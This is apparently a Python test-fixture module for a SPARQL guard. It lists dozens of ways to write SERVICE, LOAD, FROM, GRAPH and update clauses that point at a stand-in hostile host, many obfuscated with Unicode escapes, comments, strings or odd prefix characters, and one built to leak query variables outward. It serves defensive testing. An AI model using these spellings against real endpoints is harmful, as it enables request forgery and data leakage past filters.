"""Ways to write SERVICE, LOAD and FROM, by family; what of them makes an engine without a guard call another machine."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

from hostile import AWAY

_IN = "{ ?s ?p ?o }"
_CALL = f"SERVICE <{AWAY}> {_IN}"


@dataclass(frozen=True)
class Spelling:
    """A query, or an update; ``calls`` says whether the engine alone makes a connection because of it."""

    family: str
    text: str
    calls: bool = True
    is_update: bool = False


def _named(prefix: str, local: str = "x") -> str:
    return f"PREFIX {prefix}: <{AWAY}> SELECT * {{ SERVICE {prefix}:{local} {_IN} }}"


# what stands in the name of the service
_PREFIXES = {
    "middle dot": "a·b",
    "combining mark": "a\u0301b",
    "zero width joiner": "\u200da\u200d",
    "zero width non-joiner": "\u200ca",
    "undertie": "a\u203fb",
    "character tie": "a\u2040b",
    "other script": "الف",
    "inner dot": "a.b",
    "hyphen": "a-b",
    "no prefix": "",
    "the word itself": "service",
    "silent": "silent",
}
_LOCALS = {
    "no local name": "",
    "colons": "a:b:c",
    "dots": "a.b",
    "percent": "%41b",
    "escape": "a\\-b\\~c",
    "escaped quote": "a\\'b",
    "escaped hash": "\\#a",
    "digits": "1a",
    "local middle dot": "a·b",
    "local undertie": "a\u203f",
}
_PLAIN = {
    "case": f"select * {{ sErViCe <{AWAY}> {_IN} }}",
    "silent": f"SELECT * {{ SERVICE SILENT <{AWAY}> {_IN} }}",
    "no space": f"ASK{{SERVICE<{AWAY}>{_IN}}}",
    "silent, no space": f"PREFIX e:<{AWAY}>ASK{{SERVICESILENTe:x{_IN}}}",
    "after a number": f"ASK {{ ?a ?b ?c OPTIONAL {{ ?d ?e 1 }} . SERVICE<{AWAY}>{_IN} }}",
    "comment": f"ASK {{ SERVICE # <\n # }}\n <{AWAY}> {_IN} }}",
    "comment ended by a return": f"ASK {{ # '\rSERVICE#\r<{AWAY}> {_IN} }}",
    "hidden by a less-than": f"ASK {{ FILTER(1<2)SERVICE#>\n<{AWAY}> {_IN} }}",
    "hidden by a string": f"ASK {{ BIND('#' AS ?x) {_CALL} }}",
    "hidden by long strings": f"ASK {{ FILTER(1<2)#> '''\n {_CALL} #'''\n }}",
    "hidden by escapes": f"ASK {{ OPTIONAL {{ ?x ck:p\\' ?y }} {_CALL} OPTIONAL {{ ?x ck:p\\' ?y }} }}",
    "escape in the IRI": f"ASK {{ SERVICE <{AWAY}\\u0041> {_IN} }}",
    "base": f"BASE <{AWAY}> ASK {{ SERVICE <x> {_IN} }}",
    "variable by VALUES": f"ASK {{ VALUES ?x {{ <{AWAY}> }} LATERAL {{ SERVICE ?x {_IN} }} }}",
    "variable by BIND": f"ASK {{ BIND(IRI('{AWAY}') AS ?é·x) LATERAL {{ SERVICE ?é·x {_IN} }} }}",
    "dollar": f"ASK {{ VALUES $x {{ <{AWAY}> }} LATERAL {{ SERVICE$x{_IN} }} }}",
}
_PLACED = {
    "group": f"ASK {{ {{ {{ {_CALL} }} }} }}",
    "subselect": f"SELECT * {{ {{ SELECT * {{ {{ SELECT ?s {{ {_CALL} }} }} }} }} }}",
    "optional": f"SELECT * {{ OPTIONAL {{ {_CALL} }} }}",
    "union": f"SELECT * {{ {{ ?a ck:none ?b }} UNION {{ {_CALL} }} }}",
    "minus": f"SELECT * {{ ?s ?a ?b MINUS {{ {_CALL} }} }}",
    "filter exists": f"ASK {{ ?a ?b ?c FILTER EXISTS {{ {_CALL} }} }}",
    "filter not exists": f"ASK {{ ?a ?b ?c FILTER NOT EXISTS {{ SERVICE SILENT <{AWAY}> {_IN} }} }}",
    "expression": f"SELECT (EXISTS {{ {_CALL} }} AS ?x) {{}}",
    "order": f"SELECT * {{ ?a ?b ?c }} ORDER BY (EXISTS {{ {_CALL} }})",
    "path": f"SELECT * {{ ?a (a|^a)/rdfs:subClassOf? ?c . {_CALL} }}",
    "lateral": f"SELECT * {{ ?a a ck:Clash LATERAL {{ {_CALL} }} }}",
    "service": f"SELECT * {{ SERVICE <{AWAY}> {{ {_CALL} }} }}",
    "construct": f"CONSTRUCT {_IN} WHERE {{ {_CALL} }}",
    "describe": f"DESCRIBE ?s {{ {_CALL} }}",
    "leak": f"PREFIX a·b: <{AWAY}> SELECT * {{ ?e a ?leak SERVICE a·b:x {{ ?leak ?p ?o }} }}",
    "with FROM": f"SELECT * FROM <{AWAY}> {{ {_CALL} }}",
}
_SILENT = {
    "escaped keyword": f"ASK {{ \\u0053ERVICE <{AWAY}> {_IN} }}",
    "escaped letter": f"ASK {{ SERV\\u0049CE <{AWAY}> {_IN} }}",
    "long escape": f"ASK {{ \\U00000053ERVICE <{AWAY}> {_IN} }}",
    "variable of the group": f"ASK {{ VALUES ?x {{ <{AWAY}> }} SERVICE ?x {_IN} }}",
    "astral letter": _named("\U00010000"),
    "long s": f"ASK {{ \u017fERVICE <{AWAY}> {_IN} }}",
    "from": f"SELECT * FROM <{AWAY}> {_IN}",
    "from named": f"SELECT * FROM NAMED <{AWAY}> {{ GRAPH <{AWAY}> {_IN} }}",
    "from by prefix": f"PREFIX e·: <{AWAY}> CONSTRUCT {_IN} FROM e·:x WHERE {_IN}",
    "graph": f"SELECT * {{ GRAPH <{AWAY}> {_IN} }}",
    "describe an IRI": f"DESCRIBE <{AWAY}>",
    "function": f"ASK {{ FILTER(<{AWAY}>(1)) }}",
    "load as a query": f"ASK {{}} ; LOAD <{AWAY}>",
}
_UPDATES = {
    "load": f"LOAD <{AWAY}>",
    "load, case": f"lOaD <{AWAY}>",
    "load silent": f"LOAD SILENT <{AWAY}>",
    "load into": f"LOAD <{AWAY}> INTO GRAPH <a:g>",
    "load by prefix": f"PREFIX a·b: <{AWAY}> # '\nLOAD a·b:x",
    "load after another": f"INSERT DATA {{ <a:a> <a:a> <a:a> }} ;\n LOAD <{AWAY}>",
    "insert": f"INSERT {_IN} WHERE {{ {_CALL} }}",
    "delete": f"DELETE {_IN} WHERE {{ {_CALL} }}",
}
_QUIET_UPDATES = {
    "using": f"DELETE {_IN} USING <{AWAY}> WHERE {_IN}",
    "with": f"WITH <{AWAY}> DELETE {_IN} WHERE {_IN}",
    "escaped load": f"LO\\u0041D <{AWAY}>",
}


def _all() -> Iterator[Spelling]:
    yield from (Spelling(f"prefix: {name}", _named(prefix)) for name, prefix in _PREFIXES.items())
    yield from (Spelling(f"local name: {name}", _named("e", local)) for name, local in _LOCALS.items())
    yield from (Spelling(f"written: {name}", text) for name, text in _PLAIN.items())
    yield from (Spelling(f"placed: {name}", text) for name, text in _PLACED.items())
    yield from (Spelling(f"never: {name}", text, calls=False) for name, text in _SILENT.items())
    yield from (Spelling(f"update: {name}", text, is_update=True) for name, text in _UPDATES.items())
    yield from (Spelling(f"update: {name}", text, is_update=True, calls=False) for name, text in _QUIET_UPDATES.items())


SPELLINGS = tuple(_all())
